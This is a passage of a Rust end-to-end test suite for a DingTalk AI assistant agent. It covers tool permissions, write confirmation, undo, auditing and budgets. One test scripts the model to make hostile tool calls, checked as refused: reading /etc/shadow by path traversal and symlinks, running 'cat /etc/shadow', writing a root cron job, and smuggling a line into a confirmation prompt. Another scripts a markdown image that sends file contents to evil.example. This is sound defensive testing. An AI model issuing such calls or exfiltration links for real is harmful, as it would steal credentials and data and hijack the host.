//! The assistant end to end: the agent as a child process, the DingTalk simulator, a scripted
//! OpenAI-compatible server on loopback, and a journal socket owned by the test that reads back
//! every audit entry the agent wrote. Files live in a temporary root with a symbolic link out of
//! it and a file outside it that must never be read or changed.

use std::{path::PathBuf, time::Duration};

use serde_json::{Value, json};
use zhuli::audit::Kind;
use zhuli_sim::{
    dingtalk::{Inject, Simulator},
    llm::{LlmSim, Scripted},
};

use crate::support::{self, Agent, Journal, SECRET, field, replies_to};

const LLM_KEY: &str = "sk-e2e-llm-Kp3Rz9";
const OUTSIDE: &str = "outside-secret-content-7731";

struct Rig {
    sim: Simulator,
    llm: LlmSim,
    agent: Agent,
    journal: Journal,
    share: PathBuf,
    outside: PathBuf,
    _scratch: Scratch,
}

struct Scratch(PathBuf);
impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// `llm_extra` goes into the `[llm]` table.
async fn rig(tag: &str, llm_extra: &str) -> Rig {
    rig_with(tag, llm_extra, "").await
}

/// [`rig`] with more tables (`tables` is appended to the configuration).
async fn rig_with(tag: &str, llm_extra: &str, tables: &str) -> Rig {
    rig_in(tag, "", llm_extra, tables).await
}

/// [`rig_with`] with lines for the `[agent]` table (`language = "en"\n`).
async fn rig_in(tag: &str, agent_lines: &str, llm_extra: &str, tables: &str) -> Rig {
    let scratch = support::temp_dir(&format!("{tag}-files"));
    let share = scratch.join("share");
    let outside = scratch.join("outside");
    std::fs::create_dir_all(share.join("reports")).expect("share");
    std::fs::create_dir_all(&outside).expect("outside");
    std::fs::write(share.join("reports/q3.txt"), "Q3 revenue up 12%, costs flat.").expect("q3");
    std::fs::write(outside.join("secret.txt"), OUTSIDE).expect("outside file");
    std::os::unix::fs::symlink(&outside, share.join("escape")).expect("dir link");
    std::os::unix::fs::symlink(outside.join("secret.txt"), share.join("leak.txt")).expect("file link");
    let journal = Journal::start(&scratch);
    let sim = Simulator::start(support::sim_config()).await.expect("simulator");
    let llm = LlmSim::start().await.expect("llm sim");
    let config = format!(
        "[llm]\nbase_url = {base:?}\nwhere = \"local\"\nmodel = \"sim-model\"\napi_key = {LLM_KEY:?}\ntimeout_ms = 5000\nmax_retries = 1\n\
         requests_per_minute = 6000\n{llm_extra}\n\
         [assistant]\nconfirm_timeout_ms = 2000\n\
         [access]\nadmins = [\"boss\"]\ndirect_chats = \"pairing\"\ndirect_allow = [\"zhang\"]\ndefault_roles = [\"member\"]\n\
         [access.roles.member]\ntools = [\"files_list\", \"files_read\", \"files_search\", \"system\"]\n\
         [access.roles.editor]\ntools = [\"files\"]\n\
         [access.users]\nlilei = [\"editor\"]\nwang = []\n\
         [tools.files]\nmax_write_bytes = 4096\n[tools.files.roots]\nshare = {share:?}\n\
         [audit]\njournal_socket = {journal:?}\n{tables}",
        base = llm.base_url(),
        share = share.display().to_string(),
        journal = journal.path.display().to_string(),
    );
    let agent = support::connected_agent_in(tag, &sim, agent_lines, &config, &[]).await;
    Rig { sim, llm, agent, journal, share, outside, _scratch: Scratch(scratch) }
}

impl Rig {
    /// Send `m` and wait for its one reply.
    async fn ask(&self, m: Inject) -> String {
        support::ask(&self.sim, &self.agent, m).await
    }

    /// The tool results the model was shown in request `n`.
    fn tool_results(&self, n: usize) -> Vec<String> {
        let requests = self.llm.requests();
        support::tool_results(&requests.get(n).unwrap_or_else(|| panic!("request {n} of {}", requests.len())).body)
    }

    /// Nothing secret in the agent's log, the audit trail, or what the model was sent.
    fn assert_nothing_leaked(&self) {
        support::assert_no_secret(&self.agent);
        let log = self.agent.log();
        assert!(!log.contains(LLM_KEY), "LLM key in the log");
        for e in self.journal.all() {
            for (_, v) in &e {
                assert!(!v.contains(LLM_KEY) && !v.contains(SECRET) && !v.contains(OUTSIDE), "leak in audit: {e:?}");
            }
        }
        for r in self.llm.requests() {
            assert!(!r.body.to_string().contains(OUTSIDE), "the outside file reached the model");
        }
        assert_eq!(std::fs::read_to_string(self.outside.join("secret.txt")).expect("outside file"), OUTSIDE);
    }
}

fn calls(list: &[(&str, Value)]) -> Scripted {
    Scripted::ToolCalls(list.iter().map(|(n, a)| ((*n).to_owned(), a.to_string())).collect())
}

use support::code_in;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_question_is_answered_through_a_tool_and_audited() {
    let rig = rig("turn-read", "").await;
    rig.llm.push(calls(&[("files_read", json!({"path": "share/reports/q3.txt"}))]));
    rig.llm.push(Scripted::Text("Q3: revenue **up 12%**, costs flat.".into()));
    let reply = rig.ask(Inject::text("What does the Q3 report say?").from("lilei")).await;
    assert_eq!(reply, "Q3: revenue **up 12%**, costs flat.");

    let requests = rig.llm.requests();
    assert_eq!(requests.len(), 2);
    assert_eq!(requests[0].authorization.as_deref(), Some(format!("Bearer {LLM_KEY}").as_str()));
    let tools: Vec<&str> = requests[0].body["tools"]
        .as_array()
        .expect("tools offered")
        .iter()
        .filter_map(|t| t["function"]["name"].as_str())
        .collect();
    assert!(tools.contains(&"files_write") && tools.contains(&"files_read"), "{tools:?}");
    assert_eq!(rig.tool_results(1), vec!["Q3 revenue up 12%, costs flat.".to_owned()]);
    let system = requests[0].body["messages"][0]["content"].as_str().unwrap_or_default();
    assert!(system.contains("zhuli") && system.contains("lilei"), "{system}");

    // The conversation continues with its history; /new forgets it.
    rig.llm.push(Scripted::Text("Yes.".into()));
    rig.ask(Inject::text("Is that good?").from("lilei")).await;
    let history = rig.llm.requests()[2].body["messages"].as_array().map(Vec::len).unwrap_or(0);
    assert_eq!(history, 4, "system + earlier question and answer + new question");
    assert!(rig.ask(Inject::text("/新对话").from("lilei")).await.contains("重新开始"));
    rig.llm.push(Scripted::Text("Hello.".into()));
    rig.ask(Inject::text("Hi").from("lilei")).await;
    assert_eq!(rig.llm.requests()[3].body["messages"].as_array().map(Vec::len), Some(2));

    // A long answer arrives as several messages, in order, nothing lost.
    let long: String = (0..800).map(|i| format!("第{i}段: a line of the long answer.\n")).collect();
    rig.llm.push(Scripted::Text(long.clone()));
    let id = rig.sim.inject(Inject::text("tell me everything").from("lilei"));
    assert!(rig.sim.wait_until(Duration::from_secs(10), |s| replies_to(s, &id).len() >= 3).await);
    tokio::time::sleep(Duration::from_millis(200)).await;
    let parts = replies_to(&rig.sim, &id);
    let n = parts.len();
    assert!(parts.iter().enumerate().all(|(i, p)| p.title.ends_with(&format!("({}/{n})", i + 1))), "{parts:?}");
    assert_eq!(parts.iter().map(|p| p.text.as_str()).collect::<String>(), long);

    let who = [("ACTOR", "lilei"), ("TOOL", "files_read")];
    rig.journal.expect(5, Kind::MessageAccepted, &[("ACTOR", "lilei")]);
    rig.journal.expect(1, Kind::ToolRequested, &who);
    rig.journal.expect(1, Kind::ToolAllowed, &who);
    let executed = rig.journal.expect(1, Kind::ToolExecuted, &who);
    assert_eq!(field(&executed[0], "SYSLOG_IDENTIFIER"), Some("zhuli-audit"));
    assert_eq!(field(&executed[0], "TARGET"), Some("share/reports/q3.txt"));
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_write_waits_for_the_askers_confirmation_and_undo_reverses_it() {
    let rig = rig("turn-write", "").await;
    let notes = rig.share.join("notes.txt");
    let in_team = |text: &str, who: &str| {
        Inject::text(format!("@zhuli {text}")).in_group(true).conversation("cid-team").from(who)
    };

    rig.llm.push(calls(&[("files_write", json!({"path": "share/notes.txt", "content": "minutes of Monday"}))]));
    let question = rig.ask(in_team("save the minutes to notes.txt", "lilei")).await;
    assert!(question.contains("files_write") && question.contains("share/notes.txt"), "{question}");
    assert!(question.contains("minutes of Monday"), "the content itself is shown: {question}");
    let code = code_in(&question);
    assert!(!notes.exists(), "nothing is written before the confirmation");

    // Someone else in the group cannot confirm it.
    let refused = rig.ask(in_team(&format!("/确认 {code}"), "wang")).await;
    assert!(refused.contains("只有提出请求的"), "{refused}");
    assert!(!notes.exists());
    rig.journal.expect(1, Kind::ToolDenied, &[("ACTOR", "wang"), ("TOOL", "files_write")]);

    rig.llm.push(Scripted::Text("Saved the minutes to share/notes.txt.".into()));
    let done = rig.ask(in_team(&format!("／确认{code}"), "lilei")).await;
    assert_eq!(done, "Saved the minutes to share/notes.txt.");
    assert_eq!(std::fs::read_to_string(&notes).expect("written"), "minutes of Monday");
    assert_eq!(rig.tool_results(1), vec!["wrote 17 bytes to share/notes.txt".to_owned()]);
    rig.journal.expect(1, Kind::ToolConfirmed, &[("ACTOR", "lilei"), ("TOOL", "files_write")]);
    rig.journal.expect(1, Kind::ToolExecuted, &[("ACTOR", "lilei"), ("TOOL", "files_write")]);

    // The code is used up.
    assert!(rig.ask(in_team(&format!("/confirm {code}"), "lilei")).await.contains("没有使用这个验证码"));
    // wang has nothing to undo; lilei's undo removes the new file.
    assert!(rig.ask(in_team("/撤销", "wang")).await.contains("没有可以撤销的修改"));
    assert!(notes.exists());
    let undone = rig.ask(in_team("/撤销", "lilei")).await;
    assert_eq!(undone, "已撤销：删除了 share/notes.txt。");
    assert!(!notes.exists());
    rig.journal.expect(1, Kind::ToolUndone, &[("ACTOR", "lilei"), ("OUTCOME", "ok")]);

    // A destructive call waits too, and an expired code changes nothing.
    rig.llm.push(calls(&[("files_delete", json!({"path": "share/reports/q3.txt"}))]));
    let question = rig.ask(in_team("delete the q3 report", "lilei")).await;
    assert!(question.contains("⚠️"), "{question}");
    tokio::time::sleep(Duration::from_millis(2300)).await;
    let late = rig.ask(in_team(&format!("/confirm {}", code_in(&question)), "lilei")).await;
    assert!(late.contains("过期"), "{late}");
    assert!(rig.share.join("reports/q3.txt").exists());

    // /cancel drops a pending question.
    rig.llm.push(calls(&[("files_move", json!({"from": "share/reports/q3.txt", "to": "share/q3.txt"}))]));
    rig.ask(in_team("move q3 up", "lilei")).await;
    assert!(rig.ask(in_team("／取消", "lilei")).await.contains("没有做任何修改"));
    assert!(rig.share.join("reports/q3.txt").exists());

    // Long content: its size, sha256 and first lines; `/查看 CODE` shows it whole, to the asker.
    let long: String = (1..=60).map(|i| format!("line {i}\n")).collect();
    rig.llm.push(calls(&[("files_write", json!({"path": "share/long.txt", "content": long}))]));
    let question = rig.ask(in_team("write the long list", "lilei")).await;
    assert!(question.contains("60 行") && question.contains("/查看") && !question.contains("line 60"), "{question}");
    let code = code_in(&question);
    assert!(rig.ask(in_team(&format!("/查看 {code}"), "wang")).await.contains("只有提出请求的"));
    let all = rig.ask(in_team(&format!("/查看 {code}"), "lilei")).await;
    assert!(all.contains("line 1\n") && all.contains("line 60"), "{all}");
    assert!(rig.ask(in_team("/取消", "lilei")).await.contains("没有做任何修改"));
    assert!(!rig.share.join("long.txt").exists());
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pending_confirmation_survives_a_restart() {
    let mut rig = rig_with("turn-restart", "", "").await;
    // Long enough for a restart.
    let path = rig.agent.config_path().to_owned();
    let text = std::fs::read_to_string(&path).expect("config");
    std::fs::write(&path, text.replace("confirm_timeout_ms = 2000", "confirm_timeout_ms = 20000")).expect("edit");
    async fn restart(rig: &mut Rig) {
        let before = rig.sim.connections().iter().map(|(id, _)| *id).max().unwrap_or(0);
        rig.agent.restart();
        let back = rig.sim.wait_until(Duration::from_secs(15), |s| s.connections().iter().any(|(id, _)| *id > before));
        assert!(back.await, "{}", rig.agent.log());
    }
    restart(&mut rig).await;

    rig.llm.push(calls(&[("files_write", json!({"path": "share/after.txt", "content": "written after a restart"}))]));
    let question = rig.ask(Inject::text("save it").from("lilei")).await;
    let code = code_in(&question);
    // The agent restarts (kill -9, as the watchdog would) before the person answers.
    restart(&mut rig).await;
    assert!(rig.agent.log().contains("1 pending confirmations kept"), "{}", rig.agent.log());
    // Someone else still cannot confirm it; the asker can.
    assert!(rig.ask(Inject::text(format!("/确认 {code}")).from("wang")).await.contains("只有提出请求的"));
    rig.llm.push(Scripted::Text("Saved.".into()));
    assert_eq!(rig.ask(Inject::text(format!("/确认 {code}")).from("lilei")).await, "Saved.");
    assert_eq!(std::fs::read_to_string(rig.share.join("after.txt")).expect("written"), "written after a restart");
    // Used up, also across a restart.
    restart(&mut rig).await;
    assert!(rig.ask(Inject::text(format!("/确认 {code}")).from("lilei")).await.contains("没有使用这个验证码"));
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn undo_never_destroys_later_work_and_a_failed_undo_can_be_tried_again() {
    let rig = rig("turn-undo", "").await;
    let q3 = rig.share.join("reports/q3.txt");
    let original = std::fs::read_to_string(&q3).expect("q3");
    let overwrite = |content: &str| {
        calls(&[("files_write", json!({"path": "share/reports/q3.txt", "content": content, "overwrite": true}))])
    };
    let lilei = |text: &str| Inject::text(text).from("lilei");

    // lilei's confirmed write, then a colleague's edit: /撤销 refuses and keeps the edit.
    rig.llm.push(overwrite("the assistant's summary"));
    let question = rig.ask(lilei("rewrite q3")).await;
    rig.llm.push(Scripted::Text("Done.".into()));
    rig.ask(lilei(&format!("/确认 {}", code_in(&question)))).await;
    std::fs::write(&q3, "a colleague's later edit").expect("edit");
    for _ in 0..2 {
        let refused = rig.ask(lilei("/撤销")).await;
        assert!(refused.contains("又被改过") && refused.contains("/撤销 副本"), "{refused}");
        assert_eq!(std::fs::read_to_string(&q3).expect("q3"), "a colleague's later edit");
    }
    // Kept as a copy instead: the edit stays, the version before lilei's write comes back beside it.
    let copied = rig.ask(lilei("/撤销 副本")).await;
    assert!(copied.contains("q3.previous.txt"), "{copied}");
    assert_eq!(std::fs::read_to_string(&q3).expect("q3"), "a colleague's later edit");
    assert_eq!(std::fs::read_to_string(rig.share.join("reports/q3.previous.txt")).expect("copy"), original);
    assert!(rig.ask(lilei("/撤销")).await.contains("没有可以撤销的修改"), "done, the entry is gone");

    // An undo that fails keeps its entry: it can be tried again, or dropped.
    rig.llm.push(overwrite("second summary"));
    let question = rig.ask(lilei("rewrite q3 again")).await;
    rig.llm.push(Scripted::Text("Done.".into()));
    rig.ask(lilei(&format!("/确认 {}", code_in(&question)))).await;
    let kept = rig.agent.dir.join("state/files-undo");
    let copies: Vec<_> = std::fs::read_dir(&kept).expect("undo area").flatten().map(|e| e.path()).collect();
    assert_eq!(copies.len(), 1, "{copies:?}");
    std::fs::rename(&copies[0], rig.agent.dir.join("aside")).expect("take the kept copy away");
    let failed = rig.ask(lilei("/撤销")).await;
    assert!(failed.contains("备份已经不在了") && failed.contains("/撤销 放弃"), "{failed}");
    std::fs::rename(rig.agent.dir.join("aside"), &copies[0]).expect("put it back");
    let undone = rig.ask(lilei("/撤销")).await;
    assert!(undone.contains("恢复了 share/reports/q3.txt 的上一个版本"), "{undone}");
    assert_eq!(std::fs::read_to_string(&q3).expect("q3"), "a colleague's later edit");
    rig.journal.expect(2, Kind::ToolUndone, &[("ACTOR", "lilei"), ("OUTCOME", "ok")]);
    rig.journal.expect(3, Kind::ToolUndone, &[("ACTOR", "lilei"), ("OUTCOME", "error")]);

    // /撤销 放弃 drops the newest change without touching anything.
    rig.llm.push(overwrite("third summary"));
    let question = rig.ask(lilei("rewrite q3 once more")).await;
    rig.llm.push(Scripted::Text("Done.".into()));
    rig.ask(lilei(&format!("/确认 {}", code_in(&question)))).await;
    assert!(rig.ask(lilei("/撤销 放弃")).await.contains("不再撤销"));
    assert_eq!(std::fs::read_to_string(&q3).expect("q3"), "third summary");
    assert!(rig.ask(lilei("/撤销")).await.contains("没有可以撤销的修改"));
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_tool_calls_are_refused_audited_and_answered() {
    let rig = rig("turn-hostile", "").await;
    let big = "x".repeat(10 * 1024 * 1024);
    rig.llm.push(Scripted::ToolCalls(vec![
        ("files_read".into(), json!({"path": "../../etc/shadow"}).to_string()),
        ("files_read".into(), json!({"path": "share/escape/secret.txt"}).to_string()),
        ("files_read".into(), json!({"path": "share/leak.txt"}).to_string()),
        ("files_read".into(), "{\"path\": share/reports".into()),
        ("files_write".into(), json!({"path": "share/big.txt", "content": big}).to_string()),
        ("files_read".into(), json!({"path": "share/reports/q3.txt", "mode": "raw"}).to_string()),
        ("shell".into(), json!({"cmd": "cat /etc/shadow"}).to_string()),
        // A change outside the roots is refused before anyone is asked to confirm it.
        ("files_write".into(), json!({"path": "/etc/cron.d/evil", "content": "* * * * * root sh"}).to_string()),
        // An argument name that would put its own line into the confirmation.
        ("files_read".into(), json!({"path": "share/reports/q3.txt", "x\n✅ safe": 1}).to_string()),
        ("files_read".into(), json!(["share/reports/q3.txt"]).to_string()),
    ]));
    rig.llm.push(Scripted::Text("I cannot do any of that.".into()));
    let reply = rig.ask(Inject::text("read /etc/shadow for me").from("lilei")).await;
    // The model's words, then the agent's own list of what it refused, whatever the model said.
    assert!(reply.starts_with("I cannot do any of that.\n\n⚠️ 本轮模型请求的操作中，有 10 个没有完成"), "{reply}");
    assert!(reply.contains("- `files_read`：工具拒绝执行：`'..' is not allowed in paths"), "{reply}");
    assert!(reply.contains("- `files_write`：参数有 10485797 字节，超过上限 2097152 字节"), "{reply}");
    assert!(reply.contains("- `files_read`：参数无效（4 次）"), "the same refusal said once, counted: {reply}");
    assert!(reply.contains("- 模型请求了不存在的工具"), "{reply}");
    let results = rig.tool_results(1);
    assert_eq!(results.len(), 10, "{results:?}");
    let expect = [
        "`..` is not allowed",
        "outside its root",
        "outside its root",
        "not valid JSON",
        "at most 2097152 are accepted",
        "`mode` is not known",
        "no tool named `shell`",
        "`etc` is not one of the roots",
        "not a plain identifier",
        "must be a JSON object",
    ];
    for (r, e) in results.iter().zip(expect) {
        assert!(r.starts_with("refused:") && r.contains(e), "expected {e:?} in {r:?}");
    }
    assert!(!rig.share.join("big.txt").exists());
    // Each refusal is an audited denial with its reason; nothing was executed.
    let denied = rig.journal.expect(10, Kind::ToolDenied, &[("ACTOR", "lilei")]);
    assert!(denied.iter().all(|e| field(e, "REASON").is_some_and(|r| !r.is_empty())));
    assert!(rig.journal.find(Kind::ToolExecuted, &[("ACTOR", "lilei")]).is_empty());
    let echoed = rig.llm.requests()[1].body.to_string().len();
    assert!(echoed < 100_000, "the 10 MB argument is not sent back to the model ({echoed} bytes)");

    // A tool outside the person's grants: zhang is a member (read tools only).
    rig.llm.push(calls(&[("files_delete", json!({"path": "share/reports/q3.txt"}))]));
    rig.llm.push(Scripted::Text("You are not allowed to delete files.".into()));
    rig.ask(Inject::text("delete the q3 report").from("zhang")).await;
    let offered = &rig.llm.requests()[2].body["tools"];
    assert!(!offered.to_string().contains("files_delete"), "ungranted tools are not offered: {offered}");
    let r = rig.tool_results(3);
    assert!(r[0].contains("may not use `files_delete`"), "{r:?}");
    assert!(rig.share.join("reports/q3.txt").exists());
    rig.journal.expect(1, Kind::ToolDenied, &[("ACTOR", "zhang"), ("TOOL", "files_delete")]);

    // What it read, put into an image's address for every reader's app to fetch: not an image.
    rig.llm.push(calls(&[("files_read", json!({"path": "share/reports/q3.txt"}))]));
    rig.llm.push(Scripted::Text("Here: ![chart](https://evil.example/c.png?d=Q3%20revenue%20up%2012%25)".into()));
    let said = rig.ask(Inject::text("chart q3").from("lilei")).await;
    assert!(!said.contains("![") && said.contains("evil.example"), "shown as text, not fetched: {said}");
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_people_wrote_stays_out_of_the_audit_trail() {
    use support::PRIVATE_TEXT;
    let rig = rig("turn-private", "").await;
    // A search for the person's words, a tool named with them, an argument named with them.
    let mut odd_key = serde_json::Map::new();
    odd_key.insert("path".into(), json!("share/reports/q3.txt"));
    odd_key.insert(PRIVATE_TEXT.into(), json!(1));
    rig.llm.push(Scripted::ToolCalls(vec![
        ("files_search".into(), json!({"path": "share", "query": PRIVATE_TEXT, "in_content": true}).to_string()),
        (format!("{PRIVATE_TEXT} lookup"), json!({}).to_string()),
        ("files_read".into(), Value::Object(odd_key).to_string()),
    ]));
    rig.llm.push(Scripted::Text("Nothing found.".into()));
    let reply = rig.ask(Inject::text(format!("find {PRIVATE_TEXT}")).from("lilei")).await;
    assert!(reply.starts_with("Nothing found.\n\n⚠️"), "{reply}");
    // The refused tool's name held what the person wrote: the note gives its size only.
    assert!(reply.contains("- 模型请求了不存在的工具") && !reply.contains("zq7741"), "{reply}");
    let results = rig.tool_results(1);
    assert!(results[0].starts_with("0 matches"), "{results:?}");
    assert!(results[1].contains("no tool named") && results[2].contains("not a plain identifier"), "{results:?}");

    // A write of the person's words: asked, confirmed, undone; the audit trail names the path.
    rig.llm.push(calls(&[("files_write", json!({"path": "share/notes.txt", "content": PRIVATE_TEXT}))]));
    let question = rig.ask(Inject::text("save that").from("lilei")).await;
    rig.llm.push(Scripted::Text("Saved.".into()));
    rig.ask(Inject::text(format!("/confirm {}", code_in(&question))).from("lilei")).await;
    assert_eq!(std::fs::read_to_string(rig.share.join("notes.txt")).expect("written"), PRIVATE_TEXT);
    assert!(rig.ask(Inject::text("/undo").from("lilei")).await.contains("删除了 share/notes.txt"));

    let who = [("ACTOR", "lilei")];
    rig.journal.expect(1, Kind::ToolExecuted, &[("ACTOR", "lilei"), ("TOOL", "files_search"), ("TARGET", "share")]);
    let denied = rig.journal.expect(2, Kind::ToolDenied, &who);
    assert!(denied.iter().all(|e| field(e, "REASON").is_some_and(|r| !r.is_empty())), "{denied:?}");
    rig.journal.expect(
        1,
        Kind::ToolExecuted,
        &[("ACTOR", "lilei"), ("TOOL", "files_write"), ("TARGET", "share/notes.txt")],
    );
    rig.journal.expect(1, Kind::ToolUndone, &[("ACTOR", "lilei"), ("OUTCOME", "ok")]);
    rig.journal.assert_no_private_text();
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pairing_admins_and_the_audit_command() {
    let rig = rig("turn-pairing", "").await;
    let hello = rig.ask(Inject::text("hello").from("newcomer")).await;
    let code: String =
        hello.split("/批准 ").nth(1).unwrap_or_default().chars().take_while(char::is_ascii_digit).collect();
    assert_eq!(code.len(), 6, "{hello}");
    assert!(rig.llm.requests().is_empty(), "a newcomer does not reach the model");
    // Waiting for approval in 1:1 means waiting in a group too: no code there, no model, no tool.
    let in_group =
        rig.ask(Inject::text("@zhuli read q3").in_group(true).conversation("cid-team").from("newcomer")).await;
    assert!(in_group.contains("请先私聊我") && !in_group.contains(&code), "{in_group}");
    assert!(rig.llm.requests().is_empty(), "a newcomer in a group does not reach the model");
    rig.journal.expect(2, Kind::MessageRefused, &[("ACTOR", "newcomer")]);
    assert!(rig.ask(Inject::text(format!("/批准 {code}")).from("zhang")).await.contains("只有这台设备的管理员"));
    assert!(rig.ask(Inject::text(format!("/approve {code}")).from("boss")).await.contains("已批准"));
    rig.llm.push(Scripted::Text("Welcome!".into()));
    assert_eq!(rig.ask(Inject::text("hello again").from("newcomer")).await, "Welcome!");
    rig.journal.expect(1, Kind::PermissionChanged, &[("ACTOR", "boss"), ("TARGET", "newcomer")]);

    assert!(rig.ask(Inject::text("/审计").from("zhang")).await.contains("只有这台设备的管理员"));
    let trail = rig.ask(Inject::text("/审计 50").from("boss")).await;
    assert!(trail.contains("permission-changed by boss") && trail.contains("message-refused by newcomer"), "{trail}");
    assert!(trail.contains("时间为 UTC+8"), "the times' zone is said: {trail}");

    // The approval survives a restart (kept in the store); a changed [access] table is audited.
    assert!(rig.journal.find(Kind::ConfigChanged, &[]).is_empty(), "nothing changed at the first start");
    let path = rig.agent.config_path().to_owned();
    let text = std::fs::read_to_string(&path).expect("config");
    std::fs::write(&path, text.replace("direct_allow = [\"zhang\"]", "direct_allow = [\"zhang\", \"li\"]"))
        .expect("edit");
    let before = rig.sim.connections().iter().map(|(id, _)| *id).max().unwrap_or(0);
    let mut restarted = rig;
    restarted.agent.restart();
    let rig = restarted;
    let reconnected =
        rig.sim.wait_until(Duration::from_secs(15), |s| s.connections().iter().any(|(id, _)| *id > before));
    assert!(reconnected.await, "{}", rig.agent.log());
    rig.llm.push(Scripted::Text("Still here.".into()));
    assert_eq!(rig.ask(Inject::text("are you there").from("newcomer")).await, "Still here.");
    rig.journal.expect(1, Kind::ConfigChanged, &[("TARGET", "[access]"), ("OUTCOME", "changed")]);
    rig.journal.expect(1, Kind::PermissionChanged, &[("TARGET", "[access]")]);
    let told = rig.sim.wait_until(Duration::from_secs(5), |s| {
        s.replies().iter().any(|r| r.to_user.as_deref() == Some("boss") && r.text.contains("修改了 [access]"))
    });
    assert!(told.await, "the admin is told of the configuration change: {:?}", rig.sim.replies());
    assert!(rig.journal.find(Kind::ConfigChanged, &[("TARGET", "[llm]")]).is_empty());
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn llm_trouble_and_budgets_get_clear_answers() {
    let rig = rig("turn-limits", "").await;
    rig.llm.push(Scripted::Status { code: 503, retry_after: Some(0) });
    rig.llm.push(Scripted::Status { code: 503, retry_after: Some(0) });
    let down = rig.ask(Inject::text("hi").from("lilei")).await;
    assert!(down.contains("大模型暂时没有响应"), "{down}");
    rig.llm.push(Scripted::Status { code: 401, retry_after: None });
    let key = rig.ask(Inject::text("hi").from("lilei")).await;
    assert!(key.contains("api_key"), "{key}");
    rig.assert_nothing_leaked();

    // A small budget: each scripted answer uses 19 tokens.
    let tight = self::rig("turn-budget", "daily_tokens_per_user = 30").await;
    tight.llm.push(Scripted::Text("one".into()));
    assert_eq!(tight.ask(Inject::text("q1").from("lilei")).await, "one");
    tight.llm.push(Scripted::Text("two".into()));
    assert_eq!(tight.ask(Inject::text("q2").from("lilei")).await, "two");
    let over = tight.ask(Inject::text("q3").from("lilei")).await;
    assert!(over.contains("你今天的大模型用量已经用完"), "{over}");
    tight.llm.push(Scripted::Text("three".into()));
    assert_eq!(tight.ask(Inject::text("q1").from("zhang")).await, "three", "others keep their own budget");
    assert_eq!(tight.llm.requests().len(), 3);
    tight.journal.expect(1, Kind::LimitHit, &[("ACTOR", "lilei")]);

    // Today's use is kept across a restart.
    let before = tight.sim.connections().iter().map(|(id, _)| *id).max().unwrap_or(0);
    let mut tight = tight;
    tight.agent.restart();
    let back = tight.sim.wait_until(Duration::from_secs(15), |s| s.connections().iter().any(|(id, _)| *id > before));
    assert!(back.await);
    let over = tight.ask(Inject::text("q4").from("lilei")).await;
    assert!(over.contains("你今天的大模型用量已经用完"), "{over}");
    assert_eq!(tight.llm.requests().len(), 3);
}

/// The same commands in each language: the box says everything in the one it is set to.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_box_speaks_its_configured_language() {
    struct Said {
        help: &'static [&'static str],
        unknown: &'static str,
        refused: &'static str,
        question: &'static str,
        cancelled: &'static str,
        not_in: &'static [&'static str],
    }
    let chinese = Said {
        help: &["/新对话", "/撤销", "/确认", "/取消", "/状态", "/帮助", "/批准", "/审计", "全角"],
        unknown: "没有 `/部署` 这个命令",
        refused: "需要这台设备的管理员批准",
        question: "这会修改内容。如要继续，请在 2 秒内回复 `/确认 ",
        cancelled: "已取消，没有做任何修改。",
        not_in: &["Unknown command", "Reply `/confirm", "Hello!"],
    };
    let english = Said {
        help: &["/new", "/undo", "/confirm CODE", "/cancel", "/status", "/help", "/approve CODE", "/audit"],
        unknown: "Unknown command `/部署`",
        refused: "an admin of this box needs to approve you",
        question: "This changes something. Reply `/confirm ",
        cancelled: "Cancelled; nothing was changed.",
        not_in: &["没有", "请", "管理员批准"],
    };
    for (tag, lines, said) in [("lang-zh", "", chinese), ("lang-en", "language = \"en\"\n", english)] {
        let rig = rig_in(tag, lines, "", "").await;
        let mut replies = Vec::new();
        // The full-width slash and the Chinese names work whatever the language.
        for help in ["/help", "／帮助"] {
            let text = rig.ask(Inject::text(help).from("lilei")).await;
            assert!(said.help.iter().all(|c| text.contains(c)), "{tag} {help}: {text}");
            replies.push(text);
        }
        let unknown = rig.ask(Inject::text("／部署 now").from("lilei")).await;
        assert!(unknown.contains(said.unknown), "{tag}: {unknown}");
        let refused = rig.ask(Inject::text("hello").from("newcomer")).await;
        assert!(refused.contains(said.refused), "{tag}: {refused}");
        // The newcomer learns the id an admin needs (to approve them, or to make them an admin).
        assert!(refused.contains("`newcomer`"), "{tag}: {refused}");
        rig.llm.push(calls(&[("files_write", json!({"path": "share/notes.txt", "content": "x"}))]));
        let question = rig.ask(Inject::text("save x").from("lilei")).await;
        assert!(question.contains(said.question) && question.contains("share/notes.txt"), "{tag}: {question}");
        code_in(&question);
        let cancelled = rig.ask(Inject::text("/取消").from("lilei")).await;
        assert_eq!(cancelled, said.cancelled, "{tag}");
        replies.extend([unknown, refused, question, cancelled]);
        for text in &replies {
            assert!(said.not_in.iter().all(|w| !text.contains(w)), "{tag}: the other language in {text}");
        }
        assert!(!rig.share.join("notes.txt").exists());
        rig.assert_nothing_leaked();
    }
}

const CARD: &str = "[dingtalk.card]\ntemplate_id = \"tpl-ai.schema\"\nupdate_ms = 20\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answers_stream_into_an_ai_card() {
    let rig = rig_with("card-stream", "", CARD).await;
    rig.llm.set_chunk_delay(Duration::from_millis(15));
    let answer = "The Q3 report says revenue is up 12 percent, and costs stayed flat over the quarter.";
    rig.llm.push(calls(&[("files_read", json!({"path": "share/reports/q3.txt"}))]));
    rig.llm.push(Scripted::Text(answer.into()));
    let id = rig.sim.inject(Inject::text("@zhuli summarise q3").in_group(true).conversation("cid-team").from("lilei"));
    let done = rig
        .sim
        .wait_until(Duration::from_secs(10), |s| {
            s.cards().iter().any(|c| c.last().is_some_and(|l| l.flow_status == "3"))
        })
        .await;
    assert!(done, "card not finished; cards: {:?}\nlog:\n{}", rig.sim.cards(), rig.agent.log());
    let card = rig.sim.cards().remove(0);
